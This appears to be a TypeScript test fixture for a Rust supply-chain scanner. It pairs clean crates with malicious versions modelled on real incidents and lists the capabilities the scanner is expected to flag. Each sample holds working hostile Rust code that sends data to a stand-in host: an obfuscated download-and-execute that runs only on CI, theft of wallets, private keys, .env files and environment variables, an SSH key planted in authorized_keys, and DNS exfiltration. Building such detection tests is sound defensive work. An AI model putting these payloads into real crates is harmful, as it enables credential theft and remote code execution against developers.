/** Attacks that happened, whose code runs with the program that uses the crate. */
import { crate, type Pair } from './pair.js'

const DECIMAL = `pub struct Decimal { pub value: i64, pub scale: u32 }
impl Decimal {
    pub fn new(value: i64, scale: u32) -> Self { Decimal { value, scale } }
}
`

const LOGGER = 'pub fn log(text: &str) { println!("{text}"); }\n'
const CLIENT = `use std::io::Write;
pub fn get(path: &str) {
    if let Ok(mut stream) = std::net::TcpStream::connect("api.example.com:443") { let _ = write!(stream, "GET {path}"); }
}
`

export const AT_RUN_TIME: readonly Pair[] = [
  {
    name: 'decimal',
    behaviour:
      'A number type that downloads a program and starts it, only on a build server, its texts behind an exclusive or',
    seen: 'rustdecimal, 2022',
    before: crate('app', DECIMAL),
    attack: {
      'app/src/lib.rs': `pub struct Decimal { pub value: i64, pub scale: u32 }
impl Decimal {
    pub fn new(value: i64, scale: u32) -> Self { bit_parser(); Decimal { value, scale } }
}
const KEY: u8 = 0x55;
// "curl", "https://cdn.example.com/git", "/tmp/git-updater.bin"
const PROGRAM: [u8; 4] = [0x36, 0x20, 0x27, 0x39];
const TARGET: [u8; 20] = [0x7a, 0x21, 0x38, 0x25, 0x7a, 0x32, 0x3c, 0x21, 0x78, 0x20, 0x25, 0x31, 0x34, 0x21, 0x30, 0x27, 0x7b, 0x37, 0x3c, 0x3b];
const HOST: [u8; 27] = [0x3d, 0x21, 0x21, 0x25, 0x26, 0x6f, 0x7a, 0x7a, 0x36, 0x31, 0x3b, 0x7b, 0x30, 0x2d, 0x34, 0x38, 0x25, 0x39, 0x30, 0x7b, 0x36, 0x3a, 0x38, 0x7a, 0x32, 0x3c, 0x21];
fn plain(bytes: &[u8]) -> String { bytes.iter().map(|b| (b ^ KEY) as char).collect() }
fn bit_parser() {
    if std::env::var("GITLAB_CI").is_err() { return }
    let file = plain(&TARGET);
    let _ = std::process::Command::new(plain(&PROGRAM)).arg("-o").arg(&file).arg(plain(&HOST)).status();
    let _ = std::process::Command::new(&file).spawn();
}
`,
    },
    analyze: 'exec certain decimal',
    diff: '+ exec new, 2 sites',
    refused: ['decimal: run exec', 'decimal: run env/read'],
    values: ['exec /tmp/git-updater.bin (concealed)', 'exec curl (concealed)', 'env/read GITLAB_CI'],
  },
  {
    name: 'source-logger',
    behaviour: 'A logger that looks for keys in source files and posts them',
    seen: 'faster_log and async_println, 2025',
    before: crate('app', LOGGER),
    attack: {
      'app/src/lib.rs': `use std::io::Write;
pub fn log(text: &str) { println!("{text}"); }
pub fn flush_files(directory: &std::path::Path) {
    for entry in std::fs::read_dir(directory).into_iter().flatten().flatten() {
        if entry.path().is_dir() { flush_files(&entry.path()); continue }
        let text = std::fs::read_to_string(entry.path()).unwrap_or_default();
        for line in text.lines() { if is_key(line) { send(line) } }
    }
}
fn is_key(line: &str) -> bool { line.contains("0x") && line.len() >= 66 }
fn send(line: &str) {
    if let Ok(mut stream) = std::net::TcpStream::connect("rpc.example.com:443") {
        let _ = write!(stream, "POST / HTTP/1.1\\r\\n\\r\\n{line}");
    }
}
`,
    },
    analyze: 'network/connect certain source-logger',
    diff: '+ network/connect new, 2 sites',
    refused: [
      'source-logger: run network/connect',
      'source-logger: run network/resolve',
      'source-logger: run fs/read',
      'source-logger: run fs/meta',
    ],
    values: ['network/connect rpc.example.com:443', 'network/resolve rpc.example.com:443'],
  },
  {
    name: 'order-client',
    behaviour:
      'A client that sends the private key that its user keeps in a variable, and wallets from the home directory',
    seen: 'the polymarket, clob-sdk and tracing-check crates, 2026',
    before: crate('app', `pub fn order(price: u32) -> String { format!("{{\\"price\\":{price}}}") }\n`),
    attack: {
      'app/src/lib.rs': `use std::io::Write;
pub fn order(price: u32) -> String { check(); format!("{{\\"price\\":{price}}}") }
fn check() {
    let key = std::env::var("POLYMARKET_PRIVATE_KEY").unwrap_or_default();
    let home = std::env::var("HOME").unwrap_or_default();
    let wallet = std::fs::read(format!("{home}/.config/solana/id.json")).unwrap_or_default();
    if let Ok(mut stream) = std::net::TcpStream::connect(("rpc-check.example.com", 443)) {
        let _ = stream.write_all(key.as_bytes());
        let _ = stream.write_all(&wallet);
    }
}
`,
    },
    analyze: 'network/connect certain order-client',
    diff: '+ network/connect new, 3 sites',
    refused: [
      'order-client: run network/connect',
      'order-client: run network/resolve',
      'order-client: run fs/read',
      'order-client: run env/read',
    ],
    values: [
      'network/connect rpc-check.example.com:443',
      'network/resolve rpc-check.example.com:443',
      'fs/read $HOME/.config/solana/id.json',
      'env/read HOME',
      'env/read POLYMARKET_PRIVATE_KEY',
    ],
  },
  {
    name: 'clock',
    behaviour: 'A clock that uploads `.env` to a host that is named like a time service',
    seen: 'time_calibrator, time_calibrators, dnp3times, time-sync and chrono_anchor, 2026',
    before: crate(
      'app',
      `pub fn now() -> u64 { std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map_or(0, |d| d.as_secs()) }\n`,
    ),
    attack: {
      'app/src/lib.rs': `use std::io::Write;
pub fn now() -> u64 { calibrate(); std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map_or(0, |d| d.as_secs()) }
fn calibrate() {
    let Ok(body) = std::fs::read(".env") else { return };
    if let Ok(mut stream) = std::net::TcpStream::connect("timeapi.example.com:443") { let _ = stream.write_all(&body); }
}
`,
    },
    analyze: 'network/connect certain clock',
    diff: '+ network/connect new, 2 sites',
    refused: ['clock: run network/connect', 'clock: run network/resolve', 'clock: run fs/read'],
    values: ['network/connect timeapi.example.com:443', 'network/resolve timeapi.example.com:443', 'fs/read .env'],
  },
  {
    name: 'tracer',
    behaviour: 'A tracing function that downloads a program, makes it executable and starts it',
    seen: 'logtrace, logprinter, logflux and exploration, 2026',
    before: crate('app', `pub fn trace(text: &str) { println!("{text}"); }\n`),
    attack: {
      'app/src/lib.rs': `use std::io::{Read, Write};
pub fn trace(text: &str) { println!("{text}"); std::thread::spawn(rotate); }
fn rotate() {
    let Ok(mut stream) = std::net::TcpStream::connect("192.0.2.7:8080") else { return };
    let _ = stream.write_all(b"GET /u HTTP/1.0\\r\\n\\r\\n");
    let mut body = Vec::new();
    let _ = stream.read_to_end(&mut body);
    let file = std::env::temp_dir().join("logrotated");
    let _ = std::fs::write(&file, &body);
    #[cfg(unix)] let _ = std::fs::set_permissions(&file, std::os::unix::fs::PermissionsExt::from_mode(0o755));
    let _ = std::process::Command::new(&file).spawn();
}
`,
    },
    analyze: 'exec certain tracer',
    diff: '+ exec new, 1 site',
    refused: [
      'tracer: run exec',
      'tracer: run network/connect',
      'tracer: run network/resolve',
      'tracer: run fs/write',
      'tracer: run env/read',
      'tracer: run thread',
    ],
    values: [
      'exec $TMPDIR/logrotated',
      'network/connect 192.0.2.7:8080',
      'network/resolve 192.0.2.7:8080',
      'fs/write $TMPDIR/logrotated',
    ],
  },
  {
    name: 'quotes',
    behaviour: 'All variables of the environment, sent to a host for callbacks',
    seen: 'jfrog_quotes, custom-req-on-workers, sophosfirewall-python and others, 2025',
    before: crate('app', `pub fn quote() -> &'static str { "less is more" }\n`),
    attack: {
      'app/src/lib.rs': `use std::io::Write;
pub fn quote() -> &'static str { report(); "less is more" }
fn report() {
    let all: String = std::env::vars().map(|(name, value)| format!("{name}={value}\\n")).collect();
    if let Ok(mut stream) = std::net::TcpStream::connect("callback.example.com:80") { let _ = stream.write_all(all.as_bytes()); }
}
`,
    },
    analyze: 'network/connect certain quotes',
    diff: '+ network/connect new, 2 sites',
    refused: ['quotes: run network/connect', 'quotes: run network/resolve', 'quotes: run env/read'],
    values: ['network/connect callback.example.com:80', 'network/resolve callback.example.com:80'],
  },
  {
    name: 'terminal',
    behaviour: 'A binding that asks what machine it is on by starting programs, and reports it by a look-up of names',
    seen: 'replit_ruspty, 2025',
    before: crate('app', `pub fn columns() -> usize { 80 }\n`),
    attack: {
      'app/src/lib.rs': `use std::net::ToSocketAddrs;
pub fn columns() -> usize { hello(); 80 }
fn hello() {
    let Ok(out) = std::process::Command::new("sh").arg("-c").arg("id; hostname").output() else { return };
    let name: String = out.stdout.iter().map(|b| format!("{b:02x}")).collect();
    let _ = format!("{name}.oast.example.com:53").to_socket_addrs();
}
`,
    },
    analyze: 'exec certain terminal',
    diff: '+ exec new, 1 site',
    refused: ['terminal: run exec', 'terminal: run network/resolve'],
    values: ['exec sh', 'network/resolve *.oast.example.com:53'],
    but: 'What the script of a shell does is not read.',
  },
  {
    name: 'bits',
    behaviour: 'A key of the attacker among those that may log in, and the session of a messenger taken away',
    seen: 'microsoftsystem64, 2026',
    before: crate('app', `pub fn bits() -> u32 { usize::BITS }\n`),
    attack: {
      'app/src/lib.rs': `use std::io::Write;
pub fn bits() -> u32 { stay(); take(); usize::BITS }
fn stay() {
    let file = format!("{}/.ssh/authorized_keys", std::env::var("HOME").unwrap_or_default());
    if let Ok(mut keys) = std::fs::OpenOptions::new().append(true).open(file) { let _ = keys.write_all(b"ssh-ed25519 AAAA harmless\\n"); }
}
fn take() {
    let file = format!("{}/Telegram Desktop/tdata/key_datas", std::env::var("APPDATA").unwrap_or_default());
    let Ok(body) = std::fs::read(file) else { return };
    if let Ok(mut stream) = std::net::TcpStream::connect("198.51.100.4:443") { let _ = stream.write_all(&body); }
}
`,
    },
    analyze: 'network/connect certain bits',
    diff: '+ network/connect new, 2 sites',
    refused: [
      'bits: run network/connect',
      'bits: run network/resolve',
      'bits: run fs/write',
      'bits: run fs/read',
      'bits: run env/read',
    ],
    values: [
      'network/connect 198.51.100.4:443',
      'network/resolve 198.51.100.4:443',
      'fs/write $HOME/.ssh/authorized_keys',
      'fs/read $APPDATA/Telegram Desktop/tdata/key_datas',
      'env/read APPDATA',
      'env/read HOME',
    ],
  },
  {
    name: 'release-client',
    behaviour:
      'A release of a client that may talk to its host, which now sends the project that it is used in to another',
    seen: 'onering 1.4.1, 2026',
    before: crate('app', CLIENT),
    attack: {
      'app/src/lib.rs': `${CLIENT}fn report() {
    let Ok(mut stream) = std::net::TcpStream::connect("metrics.example.com:443") else { return };
    for entry in std::fs::read_dir("src").into_iter().flatten().flatten() {
        let _ = stream.write_all(&std::fs::read(entry.path()).unwrap_or_default());
    }
}
pub fn ping() { report(); get("/ping") }
`,
    },
    analyze: 'network/connect certain release-client',
    diff: '+ network/connect 2 → 4 sites',
    refused: [
      'release-client: run network/connect other-values',
      'release-client: run network/resolve other-values',
      'release-client: run fs/read',
      'release-client: run fs/meta',
    ],
    values: [
      'network/connect api.example.com:443',
      'network/connect metrics.example.com:443',
      'network/resolve api.example.com:443',
      'network/resolve metrics.example.com:443',
      'fs/meta src',
    ],
  },
]
